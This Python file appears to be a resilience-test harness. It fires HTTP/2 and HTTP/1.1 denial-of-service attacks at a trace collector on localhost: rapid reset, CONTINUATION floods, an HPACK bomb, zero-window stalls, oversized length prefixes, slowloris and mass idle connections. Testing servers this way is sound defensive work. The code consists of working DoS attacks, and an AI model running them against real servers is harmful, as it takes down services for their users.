"""Attacks against a collector on 127.0.0.1, each in a process of its own: attacks.py NAME PORT SECONDS. Prints what happened as JSON."""
import json
import resource
import socket
import struct
import sys
import time

import h2

LIMIT = 0.0


def over():
    return time.monotonic() > LIMIT


def flood(port, piece, first=b"", reads=False):
    """Sends `piece(n)` for ever on one connection after another. How many pieces the longest lived connection got through, and how each ended."""
    most, ends, connections = 0, {}, 0
    while not over():
        p = h2.Peer(port)
        connections += 1
        p.sock.settimeout(2)
        n = 0
        try:
            if first:
                p.send(first)
            while not over() and p.send(piece(n)):
                n += 1
                if reads and n % 16 == 0:
                    p.drain(0.0001)
        except OSError:
            p.ended = "stuck"  # it no longer reads: our output has nowhere to go
        most = max(most, n)
        if p.ended is not None:
            ends[str(p.ended)] = ends.get(str(p.ended), 0) + 1
        p.close()
    return {"most": most, "ends": ends, "connections": connections}


def rapid_reset(port):
    head = h2.request()

    def piece(n):
        return b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, s, head) + h2.frame(h2.RST_STREAM, 0, s, b"\0\0\0\x08")
                        for s in range(200 * n + 1, 200 * n + 201, 2))
    return flood(port, piece)


def continuation(port):
    return flood(port, lambda n: h2.frame(h2.CONTINUATION, 0, 1, h2.literal("x-a", "b" * 1000)), h2.frame(h2.HEADERS, 0, 1, h2.request()))


def empty_continuation(port):
    return flood(port, lambda n: h2.frame(h2.CONTINUATION, 0, 1), h2.frame(h2.HEADERS, 0, 1, h2.request()))


def settings(port):
    return flood(port, lambda n: h2.frame(h2.SETTINGS, payload=struct.pack(">HI", 4, 65535)) * 100)


def ping(port):
    return flood(port, lambda n: h2.frame(h2.PING, payload=b"12345678") * 100)


def hpack_bomb(port):
    """A table entry of 4,000 bytes, then requests that name it 16,000 times in 16,000 bytes."""
    def piece(n):
        s = 2 * n + 1
        block = h2.request() + (h2.literal("x-bomb", "b" * 3900, index=True) if n == 0 else b"")
        return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, s, block + b"\xbe" * (16000 - len(block)))
    return flood(port, piece, reads=True)


def empty_data(port):
    return flood(port, lambda n: h2.frame(h2.DATA, 0, 1) * 100, h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.request()))


def zero_window(port):
    """Requests on one connection whose answers have no window."""
    p = h2.Peer(port, settings=struct.pack(">HI", 4, 0))
    n = 0
    body = h2.frame(h2.DATA, h2.END_STREAM, 0, b"\0\0\0\0\0")
    p.sock.settimeout(1)
    try:
        while not over():
            s = 2 * n + 1
            if not p.send(h2.frame(h2.HEADERS, h2.END_HEADERS, s, h2.request()) + body[:5] + struct.pack(">I", s) + body[9:]):
                break
            n += 1
    except OSError:
        pass
    return {"sent": n}


def huge_prefixes(port):
    """Messages that announce 4 GiB, on 100 streams of 20 connections; whether each was refused."""
    refused = asked = 0
    while not over():
        peers = [h2.Peer(port) for _ in range(20)]
        for p in peers:
            p.send(b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, s, h2.request()) + h2.frame(h2.DATA, 0, s, b"\0\xff\xff\xff\xffabc")
                            for s in range(1, 200, 2)))
        for p in peers:
            asked += 100
            seen = set()
            try:
                while len(seen) < 100 and (f := p.read(3)):
                    if f[0] == h2.HEADERS and f[1] & h2.END_STREAM:
                        seen.add(f[2])
            except OSError:
                pass
            refused += len(seen)
            p.close()
    return {"asked": asked, "refused": refused}


def many_messages(port):
    """One call with message behind message."""
    head = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.request())
    return flood(port, lambda n: h2.frame(h2.DATA, 0, 1, b"\0\0\0\0\0" * 200), head, reads=True)


def slowloris(port):
    """2,000 HTTP/1.1 connections that send their heads, and bodies, a byte at a time."""
    held, closed = [], 0
    for i in range(2000):
        c = socket.create_connection(("127.0.0.1", port), 5)
        c.sendall(b"POST /v1/traces HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-protobuf\r\n" +
                  (b"Content-Length: 1000000\r\n\r\n" if i % 2 else b""))
        c.setblocking(False)
        held.append(c)
    while not over() and held:
        for c in list(held):
            try:
                c.send(b"x")
            except BlockingIOError:
                pass
            except OSError:
                held.remove(c)
                closed += 1
        time.sleep(0.2)
    return {"closed": closed, "held": len(held)}


def idle(port):
    """10,000 HTTP/2 connections that have made one request and wait. Prints a line when they are there; holds them until its input ends."""
    peers = []
    for _ in range(10000):
        p = h2.Peer(port, timeout=20)
        p.send(h2.frame(h2.SETTINGS, h2.ACK) + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.request()) + h2.frame(h2.DATA, h2.END_STREAM, 1, b"\0\0\0\0\0"))
        peers.append(p)
    served = sum(1 for p in peers if p.answer(1, 20))
    print(json.dumps({"served": served}), flush=True)
    time.sleep(max(0.0, LIMIT - time.monotonic()))
    return {}


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    LIMIT = time.monotonic() + float(sys.argv[3])
    print(json.dumps(globals()[sys.argv[1]](int(sys.argv[2]))), flush=True)
